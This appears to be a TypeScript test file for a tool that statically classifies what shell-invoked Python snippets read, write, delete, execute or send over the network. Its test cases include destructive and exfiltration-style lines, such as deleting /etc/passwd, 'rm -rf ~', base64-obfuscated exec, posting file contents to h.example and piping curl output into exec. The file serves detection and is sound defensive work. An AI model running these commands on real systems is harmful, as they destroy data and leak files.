import { type FactRows, testRows } from "./test-rows.js";

/** The program on standard input, with arguments. */
const run = (code: string, words = ""): string => `python3 -${words} <<'END'\n${code}\nEND`;

/** Programs of Python and all of their facts, by class. */
const CODE: FactRows = {
  "names and functions": [
    { run: "import os\np = '/etc/passwd'\nos.remove(p)", deletes: ["/etc/passwd"] },
    { run: "import os as o\nx = o.remove\nx('a')", deletes: ["./a"] },
    { run: "from os import remove as r\nr('a')", deletes: ["./a"] },
    { run: "from os import *\nremove('a')", deletes: ["./a"] },
    { run: "def rm(p):\n  import os\n  os.remove(p)\nrm('/etc/x')", deletes: ["/etc/x"] },
    { run: "import os\n(lambda p: os.remove(p))('a')", deletes: ["./a"] },
    {
      run: "import os\ndef f(*a, to='b', **k):\n  os.remove(a[0]); os.remove(to)\nf('x')",
      deletes: ["./x", "./b"],
    },
    {
      run: "import os\nclass A:\n  def __init__(self, p): self.p = p\n  def go(self): os.unlink(self.p)\nA('/etc/a').go()",
      deletes: ["/etc/a"],
    },
    { run: "import os\ndef unused(): os.remove('a')" },
    { run: "open = print\nopen('a', 'w')" },
    { run: "import os\nlist(map(os.remove, ['a', 'b']))", deletes: ["./a", "./b"] },
    {
      run: "import threading, os\nthreading.Thread(target=os.remove, args=('a',)).start()",
      deletes: ["./a"],
    },
    { run: "import os\ngetattr(os, 're' + 'move')('a')", deletes: ["./a"] },
    { run: "__import__('os').remove('a')", deletes: ["./a"] },
  ],
  "where it is": [
    {
      run: "import os\ntry: os.chdir('d')\nexcept OSError: pass\nopen('a', 'w')",
      writes: ["./a", "./d/a"],
    },
    { run: "import os\nopen('a', 'w')\nos.chdir('d')\nopen('a', 'w')", writes: ["./a", "./d/a"] },
    {
      run: "import os\nfor i in range(9):\n  open('a', 'w')\n  os.chdir('d')",
      writes: ["./a", "./d/a", "**/a"],
    },
  ],
  "archives, temporary files and absolute paths": [
    {
      run: "import zipfile\nzipfile.ZipFile('n.zip', 'w').write('/etc/passwd')",
      reads: ["/etc/passwd"],
      writes: ["./n.zip"],
    },
    {
      run: "import zipfile\nzipfile.ZipFile('n.zip').extract('m', '/etc')",
      reads: ["./n.zip"],
      writes: ["/etc/**"],
    },
    { run: "import tempfile\ntempfile.mkdtemp(prefix='x', dir='/etc')", writes: ["/etc/x*"] },
    {
      run: "import tempfile, os\n_, p = tempfile.mkstemp('.c')\nos.remove(p)",
      writes: ["/tmp/*.c"],
      deletes: ["/tmp/*.c"],
    },
    { run: "import os\nos.remove(os.path.join('d', os.path.abspath('a')))", deletes: ["./a"] },
    {
      run: "import os\nos.remove(os.path.join('d', 'e' if len('x') else '/etc/x'))",
      deletes: ["./d/e", "/etc/x"],
    },
    { run: "import os\nos.remove(os.path.dirname('d/') + '/x')", deletes: ["./d/x"] },
  ],
  values: [
    { run: "import os\nos.remove(f\"/etc/{'x'}.conf\")", deletes: ["/etc/x.conf"] },
    { run: "import os\nos.remove('/etc/%s' % 'x')", deletes: ["/etc/x"] },
    { run: "import os\nos.remove('/etc/{}'.format('x'))", deletes: ["/etc/x"] },
    { run: "import os\nos.remove(os.path.join('/usr', '../etc/x'))", deletes: ["/etc/x"] },
    { run: "import os\nos.remove(''.join(['/etc', '/x']))", deletes: ["/etc/x"] },
    { run: "import os\nos.remove(os.path.expanduser('~/x'))", deletes: ["~/x"] },
    { run: "import os\nos.remove(os.environ['HOME'] + '/x')", deletes: ["~/x"] },
    { run: "from pathlib import Path\n(Path.home() / '.x').unlink()", deletes: ["~/.x"] },
    {
      run: "from pathlib import Path\nPath('/etc/a').with_name\nPath('/etc/a').parent.joinpath('b').unlink()",
      deletes: ["/etc/b"],
    },
    { run: "import os\nd = {'p': 'a'}\nos.remove(d['p'])", deletes: ["./a"] },
    { run: "import os\na, (b, c) = 'x', ('y', 'z')\nos.remove(c)", deletes: ["./z"] },
    { run: "import os\nfor p in ['a', 'b']: os.remove(p)", deletes: ["./a", "./b"] },
    { run: "import os\n[os.remove(p + '.x') for p in ('a', 'b')]", deletes: ["./a.x", "./b.x"] },
    { run: "import os, sys\nif sys.argv: p = 'a'\nelse: p = 'b'\nos.remove(p)", deletes: ["./a", "./b"] },
    { run: "import os\ntry: p = 'a'\nexcept OSError: p = 'b'\nos.remove(p)", deletes: ["./a", "./b"] },
    { run: "import os\nos.chdir('/etc')\nos.remove('x')", deletes: ["/etc/x"] },
    { run: "import os\nos.remove('~/x')", deletes: ["./~/x"] },
  ],
  files: [
    { run: "open('a').read()", reads: ["./a"] },
    { run: "with open('a', 'w') as f: f.write('x')", writes: ["./a"] },
    { run: "open('a', mode='r+')", reads: ["./a"], writes: ["./a"] },
    { run: "import shutil\nshutil.rmtree('/srv')", deletes: ["/srv/**"] },
    { run: "import shutil\nshutil.copy('a', '/usr/b')", reads: ["./a"], writes: ["/usr/b", "/usr/b/a"] },
    { run: "import os\nos.rename('a', 'b')", reads: ["./a/**"], writes: ["./b/**"], deletes: ["./a/**"] },
    {
      run: "import os\nfor f in os.listdir('/srv'): os.remove('/srv/' + f)",
      reads: ["/srv"],
      deletes: ["/srv/*"],
    },
    {
      run: "import glob, os\nfor f in glob.glob('*.tmp'): os.remove(f)",
      reads: ["./[!.]*.tmp"],
      deletes: ["./[!.]*.tmp"],
    },
    {
      run: "import json, sys\njson.dump(json.load(open(input())), sys.stdout)",
      reads: ["?"],
      unknown: ["dynamic-argument"],
    },
  ],
  programs: [
    { run: "import os\nos.system('rm -rf ~')", deletes: ["~/**"] },
    { run: "import subprocess\nsubprocess.run(['rm', '-rf', '/srv'])", deletes: ["/srv/**"] },
    { run: "import subprocess\nsubprocess.run('rm a', shell=True, cwd='/srv')", deletes: ["/srv/a"] },
    {
      run: "import os\nopen('s.sh', 'w').write('rm b')\nos.system('sh s.sh')",
      reads: ["./s.sh"],
      writes: ["./s.sh"],
      deletes: ["./b"],
    },
    { run: "exec(\"import os; os.remove('a')\")", deletes: ["./a"] },
    {
      run: "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnJlbW92ZSgnYScp'))",
      deletes: ["./a"],
      executes: ["decoded python"],
    },
    { run: "import os\nos.kill(1, 9)", actions: ["process.kill"] },
  ],
  connections: [
    {
      run: "import requests\nrequests.post('https://h.example', data=open('a').read())",
      reads: ["./a"],
      network: ["both https://h.example < ./a"],
    },
    {
      run: "import requests\nopen('a').read()\nrequests.post('https://h.example', data=open('a').read())",
      reads: ["./a"],
      network: ["both https://h.example < ./a"],
    },
    { run: "import urllib.request as u\nu.urlopen('https://h.example')", network: ["in https://h.example"] },
    {
      run: "import requests\nexec(requests.get('https://h.example').text)",
      network: ["in https://h.example"],
      executes: ["network python"],
      unknown: ["opaque-code"],
    },
  ],
  "what is not understood": [
    ...[
      "import numpy",
      "import os\nos.listxattr('a')",
      "import os\ngetattr(os, input())('a')",
      "().__class__.__base__.__subclasses__()",
      "globals()['x']()",
      "import os, json\njson.loads = os.system\njson.loads('x')",
      "import pickle\npickle.loads(b'x')",
      "import ctypes\nctypes.CDLL(None).go()",
      "eval(input())",
      "import sys\nsys.modules['os'].uname()",
      "type('X', (), {})().a()",
      "__builtins__.exec('x')",
      "def f(n): f(n + 1)\nf(1)",
    ].map((code) => ({ run: code, unknown: ["opaque-code" as const] })),
    { run: "f(", unknown: ["opaque-code"] },
  ],
  "values that grow without end": [
    { run: `x = ['a']\n${"x = x + x\n".repeat(60)}` },
    { run: `x = 'a'\n${"x = x + x\n".repeat(60)}open(x)`, reads: ["?"], unknown: ["dynamic-argument"] },
    { run: `x = []\n${"x.append(x)\n".repeat(300)}print(x)` },
    { run: `a = {}\n${"a[b] = a\n".repeat(300)}print(a)` },
    { run: "def f():\n  return [f() for x in y] + [f() for x in z]\nf()", unknown: ["opaque-code"] },
    {
      run: "x = 'a'\nwhile y:\n  open(x, 'w')\n  x += 'b'",
      writes: ["./a", "./ab", "?"],
      unknown: ["dynamic-argument"],
    },
  ],
  "ordinary programs": [
    { run: "print('rm -rf /')" },
    { run: "import re, sys\nfor l in sys.stdin: print(re.sub('a', 'b', l).strip().split(',')[0])" },
    { run: "import json\nprint(json.dumps({'a': sorted([1, 2])}, indent=2))" },
    { run: "x = ['a']\nx.remove('a')\nprint(type(x), x)" },
  ],
};

testRows(
  Object.fromEntries(
    Object.entries(CODE).map(([name, rows]) => [
      name,
      rows.map((row) => ({
        ...row,
        run: run(row.run),
        executes: ["inline python", ...(row.executes ?? [])],
      })),
    ]),
  ),
);

testRows({
  "words and input": [
    {
      run: run("import os, sys\nos.remove(sys.argv[1])", " /etc/x"),
      deletes: ["/etc/x"],
      executes: ["inline python"],
    },
    {
      run: "python3 -c 'import os, sys; os.remove(sys.argv[2])' a b",
      deletes: ["./b"],
      executes: ["inline python"],
    },
    {
      run: "curl -s h.example | python3 -c 'import sys; exec(sys.stdin.read())'",
      network: ["in http://h.example"],
      executes: ["inline python", "network python"],
      unknown: ["opaque-code"],
    },
  ],
});
